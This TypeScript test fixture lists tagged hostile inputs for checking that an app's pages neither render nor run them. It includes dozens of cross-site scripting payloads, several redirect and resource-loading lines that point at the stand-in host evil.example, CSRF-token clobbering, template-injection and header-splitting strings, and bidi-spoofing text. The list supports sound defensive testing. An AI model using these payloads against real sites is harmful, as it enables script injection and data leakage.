/**
 * What people type who mean harm, each with its tag, by which a page is known to show it. Whatever
 * runs calls `pwned`.
 */
const call = "pwned(1)";

const elements = [
  `<script>${call}</script>`,
  `<ScRiPt src=data:text/javascript,${call}></sCrIpT>`,
  `<script type=module>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `<img src=x onerror="${call}">`,
  `<img/src/onerror=${call}>`,
  `<IMG """><SCRIPT>${call}</SCRIPT>">`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script href="data:,${call}"/></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${call}</script>"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<body onload=${call}>`,
  `<details open ontoggle=${call}><summary>x</summary></details>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}>`,
  `<textarea autofocus onfocus=${call}>`,
  `<video><source onerror=${call}>`,
  `<audio src=x onerror=${call}>`,
  `<video poster=javascript:${call}>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<object data="data:text/html,<script>${call}</script>"></object>`,
  `<embed src="javascript:${call}">`,
  `<a href="javascript:${call}" autofocus>x</a>`,
  `<form action="javascript:${call}"><button autofocus>x</button></form>`,
  `<button popovertarget=keys onbeforetoggle=${call}>x</button>`,
  `<div popover id=keys>x</div>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<meta http-equiv=refresh content="0;url=http://evil.example/">`,
  `<meta name=htmx-config content='{"allowEval":true,"selfRequestsOnly":false}'>`,
  `<base href="http://evil.example/">`,
  `<link rel=stylesheet href="http://evil.example/x.css">`,
  `<link rel=prefetch href="http://evil.example/">`,
  `<style>@import "http://evil.example/x.css";</style>`,
  `<style>*{display:none!important}</style>`,
  `<style>body{background:url("http://evil.example/")}</style>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:red">x</div>`,
  `<div style="background:url(javascript:${call})">x</div>`,
  `<div hx-get="/console/audit" hx-trigger="load">x</div>`,
  `<div hx-on:load="${call}" data-hx-on:load="${call}">x</div>`,
  `<div hx-vals='js:{x:${call}}' hx-post="/console/sign-out" hx-trigger="load">x</div>`,
  `<div sse-connect="http://evil.example/" hx-ext="sse">x</div>`,
  `<form id=answer-form><input name=csrf value=x></form>`,
  `<input name=csrf value=stolen><meta name=csrf content=stolen>`,
  `<img name=body><img name=getElementById><form id=desk></form>`,
  `<template shadowrootmode=open><script>${call}</script></template>`,
  `<xmp><p title="</xmp><svg/onload=${call}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<!--><img src=x onerror=${call}>-->`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`,
  `<a download href=//evil.example ping=//evil.example>x</a>`,
] as const;

/** What ends the place a value may stand in. */
const ways = ["", `">`, "'>", "</textarea></title></style></script>", "--></bdi></p></main>"];

const handlers = [
  `" onmouseover="${call}" autofocus onfocus="${call}" x="`,
  `' onmouseover='${call}' autofocus onfocus='${call}' x='`,
  "` onmouseover=`pwned(1)` x=`",
  ` onerror=${call} src=x `,
  `" style="position:fixed;inset:0" x="`,
  `" formaction="javascript:${call}" x="`,
  `" data-act="close" data-key="e" x="`,
  `"/><x`,
];

const addresses = [
  `javascript:${call}//`,
  `JaVaScRiPt:${call}//`,
  `java\tscript:${call}//`,
  `\u0001javascript:${call}//`,
  `javascript://%0a${call}//`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==`,
  `vbscript:${call}`,
  "//evil.example/",
  "\\\\evil.example\\x",
  "https://evil.example/?x=",
];

const templates = [
  `{{constructor.constructor("${call}")()}}`,
  `\${${call}}`,
  `#{${call}} <%= ${call} %> [[${call}]] @{${call}}`,
  `{{7*7}} {%import os%}`,
  `'-${call}-'`,
  `";${call};//`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;img src=x onerror=${call}&#62;`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `\\x3cscript\\x3e${call}`,
  `＜script＞${call}＜/script＞`,
  `<\u0000script>${call}</\u0000script>`,
  `<scr\u00adipt>${call}`,
  `__proto__`,
  `constructor`,
  `]]>${call}<![CDATA[`,
  `expression(${call})`,
  `*/${call}/*`,
  `\n\nevent: parts\ndata: {"standing":"<img src=x onerror=${call}>"}\n\n`,
  `\r\n\r\nHTTP/1.1 200 OK\r\nX: `,
  `id: 1\nretry: 1\nevent: signed-out\ndata: `,
];

const unseen = [
  ...[0x00, 0x01, 0x07, 0x08, 0x0b, 0x0c, 0x0e, 0x1b, 0x1f, 0x7f, 0x85, 0x9f, 0xad, 0x61c, 0x180e],
  ...[0x200b, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2060],
  ...[0x2066, 0x2067, 0x2068, 0x2069, 0xfeff, 0xfff9, 0xe0001, 0xe0041],
].map((point) => `前${String.fromCodePoint(point)}后cba`);

const shapes = [
  "\u202e\u202e\u202e已送达 ✓ 李渝 09:00",
  "\u2067\u202egnp.exe",
  "مرحبا بالعالم 123 ",
  "שלום עולם (456) ",
  "א 1 ב 2 ג 3 ",
  `a${"\u0301".repeat(400)}`,
  `字${"\u0336\u0489\u20dd".repeat(100)}`,
  "\ud800 lone",
  "lone \udfff",
  "A".repeat(2_000),
  "字".repeat(2_000),
  "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}".repeat(60),
  `${"(".repeat(300)}${")".repeat(300)}`,
  "\n".repeat(200),
  " ".repeat(500),
  "\ufdfd".repeat(80),
  "\u{12031}".repeat(80),
  "ｗｗｗ．ｅｖｉｌ．ｅｘａｍｐｌｅ",
];

const bare: readonly string[] = [
  ...ways.flatMap((way) => elements.map((element) => way + element)),
  ...handlers,
  ...addresses,
  ...templates,
  ...unseen,
  ...shapes,
];

/** The tag stands first, where cut texts keep it, but for addresses, which have to begin the value. */
export const hostile: readonly { readonly tag: string; readonly text: string }[] = bare.map(
  (text, at) => {
    const tag = `h${String(at).padStart(3, "0")}z`;
    return { tag, text: addresses.includes(text) ? `${text}${tag}` : `${tag} ${text}` };
  },
);
